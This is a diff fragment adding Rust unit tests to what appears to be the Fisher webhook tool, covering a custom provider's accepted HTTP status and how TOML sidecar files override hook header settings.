+                status: config.trim().parse()?,
+            })
+        }
+
+        fn validate(&self, _req: &Request) -> RequestType {
+            RequestType::ExecuteHook
+        }
+
+        fn env(&self, _req: &Request) -> HashMap<String, String> {
+            HashMap::new()
+        }
+
+        fn accepted_status(&self) -> Option<u16> {
+            Some(self.status)
+        }
+    }
+
+
+    #[test]
+    fn test_custom_providers_accepted_status() {
+        let base = utils::create_temp_dir().unwrap();
+        let state = Arc::new(State::new());
+
+        let mut providers = ProviderRegistry::new();
+        providers.register("Accepting", |config| {
+            Ok(Box::new(AcceptingProvider::new(config)?))
+        });
+
+        create_hook!(base, "valid.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Accepting: 202"#,
+            r#"echo "ok""#
+        );
+        let path = base.join("valid.sh").to_str().unwrap().to_string();
+        let hook = Hook::load(
+            "valid.sh".into(), path, &state, &providers,
+        ).unwrap();
+        assert_eq!(hook.providers[0].accepted_status(), Some(202));
+
+        // Statuses outside 2xx are rejected for every provider
+        create_hook!(base, "informational.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Accepting: 199"#,
+            r#"echo "ok""#
+        );
+        create_hook!(base, "redirect.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Accepting: 302"#,
+            r#"echo "ok""#
+        );
+        create_hook!(base, "server-error.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Accepting: 500"#,
+            r#"echo "ok""#
+        );
+        for name in &["informational.sh", "redirect.sh", "server-error.sh"] {
+            let path = base.join(name).to_str().unwrap().to_string();
+            let error = Hook::load(
+                name.to_string(), path.clone(), &state, &providers,
+            ).err().unwrap();
+            assert_eq!(*error.location(), ErrorLocation::File(path, None));
+        }
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_sidecar() {
+        let base = utils::create_temp_dir().unwrap();
+        let state = Arc::new(State::new());
+        let providers = ProviderRegistry::new();
+
+        macro_rules! write_sidecar {
+            ($name:expr, $content:expr) => {{
+                let mut file = fs::File::create(base.join($name)).unwrap();
+                write!(file, "{}", $content).unwrap();
+            }};
+        }
+
+        create_hook!(base, "example.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Standalone: {"secret": "header"}"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "Hello world""#
+        );
+        let path = base.join("example.sh").to_str().unwrap().to_string();
+        let before = Hook::load(
+            "example.sh".into(), path.clone(), &state, &providers,
+        ).unwrap();
+
+        // The sidecar takes precedence over the header with the same name
+        write_sidecar!("example.toml", "[standalone]\nsecret = \"toml\"\n");
+        let hook = Hook::load(
+            "example.sh".into(), path.clone(), &state, &providers,
+        ).unwrap();
+        assert_eq!(hook.providers.len(), 2);
+        assert_eq!(hook.providers[0].name(), "Standalone");
+        assert_eq!(hook.providers[1].name(), "Testing");
+        assert!(hook.changed_from(&before));
+
+        let mut req = dummy_web_request();
+        req.params.insert("secret".into(), "toml".into());
+        assert!(hook.providers[0].validate(&Request::Web(req)).unwrap()
+                == RequestType::ExecuteHook);
+        let mut req = dummy_web_request();
+        req.params.insert("secret".into(), "header".into());
+        assert!(hook.providers[0].validate(&Request::Web(req)).unwrap()
+                == RequestType::Invalid);
+
+        // Collecting doesn't treat the sidecar as an hook
+        let mut hooks = Vec::new();
+        let collector = HooksCollector::new(
+            &base, state.clone(), &providers, false,
+        ).unwrap();
+        for hook in collector {
+            hooks.push(hook.unwrap().name().to_string());
+        }
+        assert_eq!(hooks, vec!["example.sh".to_string()]);
+
+        // Invalid sidecars make collecting fail
+        for content in &[
+            "[standalone\n",
+            "standalone = \"toml\"\n",
+            "[standalone]\nsecret = 42\n",
+            "[unknown]\nsecret = \"toml\"\n",
+        ] {
+            write_sidecar!("example.toml", content);
+
+            let error = Hook::load(
+                "example.sh".into(), path.clone(), &state, &providers,
+            ).unwrap_err();
+            assert_eq!(error.location(), &ErrorLocation::File(
+                base.join("example.toml").to_str().unwrap().to_string(), None,
+            ));
+
+            let collector = HooksCollector::new(
+                &base, state.clone(), &providers, false,
+            ).unwrap();
+            assert!(collector.collect::<Result<Vec<_>>>().is_err());
+        }
 
         fs::remove_dir_all(&base).unwrap();
     }